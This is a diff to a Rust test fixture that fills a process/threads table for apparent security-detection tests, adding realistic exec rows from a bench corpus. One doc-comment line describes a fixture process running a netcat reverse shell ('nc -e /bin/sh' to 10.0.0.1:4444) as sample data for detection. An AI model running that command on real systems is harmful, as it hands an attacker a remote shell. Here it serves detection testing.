@@ -135,6 +135,7 @@ pub const SHIM_ID: &str = "aaaaaaaaaaaa";
 ///   10 nc -e /bin/sh 10.0.0.1 4444` under it.
 /// - 950 php-fpm (vpid 1): a web application container's main process.
 /// - 1000..=1020: a 21-deep chain p0 > ... > p20.
+/// - from [`crate::bench_corpus::REALISTIC_TIDS`]: the realistic execs and their parents.
 const ROWS: &[Row] = &[
     (
         1,
@@ -223,14 +224,32 @@ impl Plugin for ThreadsFixture {
         let chain: Vec<Row> = (1000..=1020)
             .map(|tid| (tid, tid, tid - 1, tid, "p", "/p", &[][..], ""))
             .collect();
-        for &(tid, pid, ptid, vpid, comm, exe_path, args, container_id) in ROWS.iter().chain(&chain)
+        // The realistic execs (bench_corpus::realistic) and their parents.
+        let realistic: Vec<Row> = crate::bench_corpus::realistic_threads()
+            .into_iter()
+            .map(|t| {
+                let (comm, exe, args) = t.process;
+                (
+                    t.tid,
+                    t.tid,
+                    t.ptid,
+                    t.vpid,
+                    comm,
+                    exe,
+                    args,
+                    t.container_id,
+                )
+            })
+            .collect();
+        for &(tid, pid, ptid, vpid, comm, exe_path, args, container_id) in
+            ROWS.iter().chain(&chain).chain(&realistic)
         {
             let mut row = threads.create_entry()?;
             *row.tid = tid;
             *row.pid = pid;
             *row.ptid = ptid;
             *row.vpid = vpid;
-            *row.comm = if tid >= 1000 {
+            *row.comm = if (1000..=1020).contains(&tid) {
                 CString::new(format!("p{}", tid - 1000))?
             } else {
                 CString::new(comm)?
